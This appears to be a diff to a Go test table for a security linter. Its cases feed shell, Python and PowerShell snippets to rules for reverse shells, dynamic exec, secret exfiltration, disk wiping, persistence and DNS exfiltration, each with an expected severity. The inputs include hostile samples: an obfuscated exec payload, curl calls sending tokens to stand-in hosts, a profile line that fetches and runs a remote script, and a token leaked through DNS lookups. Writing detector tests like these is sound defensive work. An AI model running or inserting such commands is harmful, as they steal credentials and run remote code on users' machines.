@@ -49,6 +49,15 @@ var codeCases = []lintCase{
 	{"d.py", "reverse-shell", "import base64\nB = 'ODspMnp3M3pkfHp1Pj8sdS45KnVoaml0anRra2l0Y3Vubml6amR8aw=='\nk = 0x5A\nexec(bytes(b ^ k for b in base64.b64decode(B)).decode())\n", "error", 2},
 	{"d.py", "reverse-shell", "import base64\nB = 'ODspMnp3M3pkfHp1Pj8sdS45KnVoaml0anRra2l0Y3Vubml6amR8aw=='\nprint(base64.b64decode(B))\n", "", 0},
 	{"d.py", "dynamic-exec", "exec(\"print('hi')\")\n", "", 0},
+	// Inline code with a shell variable inside its string literals: the
+	// program is fixed, and a literal run as code is still unresolved.
+	{"c.sh", "dynamic-exec", "python3 -c \"import json; print(json.load(open('$OUT/x.json'))['a'])\"\n", "", 0},
+	{"c.sh", "dynamic-exec", "node -e \"const fs=require('fs'); fs.writeFileSync('$DIR/o.json', '{}')\"\n", "", 0},
+	{"c.sh", "dynamic-exec", "python3 -c \"exec('$CODE')\"\n", "warning", 1},
+	{"c.sh", "dynamic-exec", "node -e \"eval('$CODE')\"\n", "warning", 1},
+	{"c.sh", "dynamic-exec", "python3 -c \"print(f'{$X}')\"\n", "warning", 1},
+	{"c.sh", "dynamic-exec", "python3 -c \"$CODE\"\n", "warning", 1},
+	{"c.sh", "dynamic-exec", "python3 -c \"import os; x = $N\"\n", "warning", 1},
 	// A shell function is walked where it is called, its arguments bound:
 	// a wrapper sends the token where its caller says.
 	{"scripts/d.sh", "secret-exfil", "token=\"$(gh auth token)\"\napi() {\n  curl -fsS -H \"Authorization: Bearer ${token}\" \"$@\"\n}\napi -X POST \"https://api.github.com/repos/${repo}/releases\"\n", "", 0},
@@ -118,6 +127,21 @@ var codeCases = []lintCase{
 	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -H \"Authorization: Bearer $t\" https://api.github.com/user https://gh-stats.example/u\n", "error", 2},
 	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -d \"tok=$t\" https://api.github.com/gists\n", "error", 2},
 	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)$(op read op://vault/x)\ncurl -fsS -H \"X: $t\" https://api.github.com/user\n", "error", 2},
+	// A loop device of an image file is the file: formatting it wipes no disk.
+	{"img.sh", "disk-wipe", "LOOP=$(sudo losetup --find --show --partscan build/disk.img)\nsudo mkfs.ext4 \"${LOOP}p1\"\n", "", 0},
+	{"img.sh", "disk-wipe", "LOOP=$(losetup -f)\nsudo mkfs.ext4 \"$LOOP\"\n", "warning", 2},
+	// Join-Path of parts the analysis did not read is no path from /.
+	{"b.ps1", "destructive-rm", "$tmp = Join-Path $a (\"devtools\")\nRemove-Item -Recurse -Force $tmp\n", "", 0},
+	// A profile's backup copy is not run by a session; the profile is.
+	{"b.ps1", "persistence", "Copy-Item $PROFILE \"$PROFILE.$(Get-Date -Format yyyyMMdd).bak\"\n", "", 0},
+	{"b.ps1", "persistence", "Add-Content -Path $PROFILE -Value \"iex (irm https://x.example/a.ps1)\"\n", "warning", 1},
+	// A password store's item read by name is a credential the user gave by
+	// name: use at the host it names, a warning elsewhere, an error when the
+	// analysis cannot see which item.
+	{"pub.sh", "secret-exfil", "pw=$(pass show npm/publish)\ncurl -H \"Authorization: Bearer $pw\" https://registry.npmjs.org/-/whoami\n", "", 0},
+	{"pub.sh", "secret-exfil", "t=$(op read op://Private/GitHub/token)\ncurl -d \"$t\" https://collect.example/u\n", "warning", 2},
+	{"pub.sh", "secret-exfil", "t=$(vault kv get -field=token secret/ci/deploy)\ncurl -H \"Authorization: Bearer $t\" https://deploy.internal.example/run\n", "", 0},
+	{"pub.sh", "secret-exfil", "t=$(op read \"$REF\")\ncurl -H \"Authorization: Bearer $t\" https://api.github.com/user\n", "error", 2},
 	// A credential's environment variable (envsecret.go) is used in a header, a body, a client; it
 	// leaks in a name looked up, the address of a request, a file sent.
 	{"reach.py", "dns-exfil", "import os, socket\nt = os.environ.get(\"GITHUB_TOKEN\", \"\").encode().hex()[:60]\nsocket.getaddrinfo(f\"{t}.x.example\", 443)\n", "error", 3},
